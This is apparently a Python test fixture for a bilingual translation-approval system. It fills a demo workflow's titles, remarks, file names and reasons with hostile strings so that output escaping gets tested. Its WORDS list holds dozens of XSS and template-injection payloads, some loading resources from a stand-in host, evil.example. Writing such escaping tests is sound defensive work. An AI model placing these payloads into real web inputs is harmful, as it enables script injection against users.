"""A house of hostile people: every word that somebody could write is an attack on whoever reads it.

The demonstration is furnished from a sample whose names, titles, reasons, answers, places and
questions are such words. Beside it stand a text that consists of them, with remarks, files and an
annotated copy, and one that was published, quoted, corrected and withdrawn by them.
"""

from __future__ import annotations

import json
import re
import shutil
from itertools import count
from pathlib import Path

import pytest

from approvals import events as ev
from approvals.handlers import life, links, press, remarks, review
from approvals.names import Bilingual, Digest
from documents.digest import text_digest
from flows import acts, demo_desk, founding
from flows.house import House
from tests.flows import houses, rounds

RUN = "crossed(1)"
"""What every word calls where it is taken for a program; the browser's page has such a function."""

WORDS = [
    f"<script>{RUN}</script>", f"<ScRiPt >{RUN}</sCrIpT >", f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>", f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>", f"</desc></svg><script>{RUN}</script>",
    "<script src=//evil.example/x.js></script>", "<script src=/static/desk.js></script>",
    f"<img src=x onerror={RUN}>", f"<img/src='x'/onerror={RUN}>", f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>", f'" autofocus onfocus="{RUN}', f"' autofocus onfocus='{RUN}",
    f"` autofocus onfocus={RUN} `", f'" onpointerenter="{RUN}" style="position:fixed;inset:0',
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>", f'<iframe srcdoc="<script>parent.{RUN}</script>">',
    f"<object data=javascript:{RUN}>", "<embed src=//evil.example/x.swf>",
    f"<a href=javascript:{RUN}>a</a>", f"javascript:{RUN}", f"JaVaScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "<form action=//evil.example><button>a</button>",
    "<button formaction=//evil.example>a</button>", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>", f"<body onload={RUN}>", f"<marquee onstart={RUN}>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x';</style>",
    "<style>*{background:url(//evil.example/x)}</style>", "<p style=background:url(//evil.example)>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form id=hand><input name=action>", "<p id=quorum><p id=live><p id=answer>",
    "{{ 7 * 191 }}", "{% raw %}{{ cycler }}", "{dossier}{0.__class__}%(key)s%s", f"${{{RUN}}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<xmp><p title="</xmp><svg/onload={RUN}>">', f"<template><script>{RUN}</script></template>",
]  # fmt: skip

KEYS = r'(?<![\w.-])((?:\w+\.)?(?:fr|en)|name)\s*=\s*"(?:[^"\\]|\\.)*"'
"""Where the sample's files have words: a language's, or somebody's name."""
KEEP = {"answers.fr.toml", "memory.toml", "glossary.csv"}
"""What holds the two languages of the demonstration's text together."""


class Speech:
    """Gives one word after another, all in turn."""

    def __init__(self, first: int = 0) -> None:
        self._turn = count(first)

    def __call__(self) -> str:
        return WORDS[next(self._turn) % len(WORDS)]

    def both(self) -> Bilingual:
        return Bilingual(self(), self())

    def file(self) -> str:
        return f"{self()}.docx"


def sample(folder: Path, say: Speech) -> Path:
    """Write the sample once more with other words."""
    shutil.copytree(founding.sample_folder(), folder)
    for file in folder.rglob("*.toml"):
        if file.name not in KEEP:
            text = file.read_text("utf-8")
            spoilt = re.sub(KEYS, lambda at: f"{at[1]} = {json.dumps(say())}", text)
            file.write_text(spoilt, "utf-8")
    return folder


def house(folder: Path, first: int = 0) -> House:
    """Furnish the house; ``first`` is the word with which it begins."""
    say = Speech(first)
    own = sample(folder / "sample", say)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(founding, "sample_folder", lambda: own)
        patch.setattr(demo_desk, "TITLES", {name: (say(), say()) for name in demo_desk.TITLES})
        patch.setattr(
            demo_desk, "NOTICE", f"[notice]\nfr = {json.dumps(say())}\nen = {json.dumps(say())}\n"
        )
        made = demo_desk.furnish(folder / "house")
        reviewed(made, say)
        released(made, say)
    return made


def translated(made: House, dossier: str, paragraphs: list[str], say: Speech) -> None:
    """Bring a text of these paragraphs to a certified pair, under a hostile title and file name."""
    acts.submit(
        made, rounds.word_file(*paragraphs), say.file(), by=rounds.who(made, "delmas"),
        dossier=dossier, title=say.both(), source="en",
        confidentiality=ev.Confidentiality.INTERNAL, key=f"{dossier}-submit",
    )  # fmt: skip
    houses.hand_over(made, dossier)
    houses.carry_out(made, dossier)
    acts.propose(made, dossier, by=rounds.who(made, "fontanel"), translate=lambda unit: unit.source)
    acts.certify(made, dossier, by=rounds.who(made, "roumier"))
    houses.carry_out(made, dossier)
    rounds.open_review(made, dossier=dossier)


def reviewed(made: House, say: Speech) -> None:
    """A text of every word there is, remarked upon, refused, with files beside it."""
    id = "crossing"
    translated(made, id, WORDS, say)
    draft = made.dossier(id).draft
    assert draft is not None
    for n, paragraph in enumerate(draft.paragraphs[:12]):
        entry = remarks.make_remark(
            remarks.MakeRemark(
                dossier=id,
                by=rounds.who(made, "vasseur"),
                key=f"remark-{n}",
                language="en",
                paragraph=paragraph.id,
                text=paragraph.digest,
                words=say(),
                start=0,
                end=6,
            ),
            made.office,
        )
        told = json.loads(entry.payload)
        remarks.answer_remark(
            remarks.AnswerRemark(
                dossier=id,
                by=rounds.who(made, "delmas"),
                key=f"answer-{n}",
                remark=told["remark"],
                words=say(),
            ),
            made.office,
        )
    for n, kind in enumerate(ev.LinkKind):
        links.link_document(
            links.LinkDocument(
                dossier=id, by=rounds.who(made, "delmas"), key=f"link-{n}", kind=kind,
                title=say.both(), language="fr", name=say.file(),
                document=Digest(made.vault.put(houses.small_docx(f"{n}"))),
            ),
            made.office,
        )  # fmt: skip
    pair = acts.require_pair(made.dossier(id))
    review.decide(
        review.MakeDecision(
            dossier=id, by=rounds.who(made, "vasseur"), key="refuse", step="legal",
            decision=ev.Decision.REQUEST_CHANGES, pair=pair,
            paragraphs=tuple(one.id for one in draft.paragraphs[:3]), reason=say(),
        ),
        made.office,
    )  # fmt: skip


def released(made: House, say: Speech) -> None:
    """A text of hostile words, adopted for a hostile reason, published, corrected, withdrawn."""
    id = "crossed"
    translated(made, id, [say() for _ in range(12)], say)
    for handle in ("vasseur", "kerlann", "marsaudon", "tahiri"):
        rounds.decide(made, handle, dossier=id)
    seats = rounds.convened(made, id, place=say(), why=say())
    rounds.adopted(made, seats, id, number=say()[:40])
    told = rounds.command(made, "lemoal", id)
    press.add_quote(
        press.AddQuote(
            dossier=id, by=told.by, key=told.key, quote=ev.QuoteId("chair"),
            speaker=rounds.who(made, "aubrac"), fr=say(), en=say(),
        ),
        made.office,
    )  # fmt: skip
    drop = rounds.command(made, "lemoal", id)
    press.drop_quote(
        press.DropQuote(dossier=id, by=drop.by, key=drop.key, quote=ev.QuoteId("chair")),
        made.office,
    )
    rounds.publish(made, id)
    corrected = rounds.word_file(*[say() for _ in range(12)])
    told = rounds.command(made, "fontanel", id)
    life.propose_erratum(
        life.ProposeErratum(
            dossier=id, by=told.by, key=told.key, language="en",
            version=Digest(made.vault.put(corrected)),
            text=Digest(text_digest(corrected).document), reason=say(),
        ),
        made.office,
    )  # fmt: skip
    life.certify_erratum(rounds.command(made, "roumier", id), made.office)
    houses.carry_out(made, id)
    told = rounds.command(made, "castagnet", id)
    life.withdraw(
        life.Withdraw(
            dossier=id, by=told.by, key=told.key, ground=ev.Ground.RESOLUTION,
            reference=say(), reason=say(),
        ),
        made.office,
    )  # fmt: skip
    life.confirm_withdrawal(rounds.command(made, "aubrac", id), made.office)
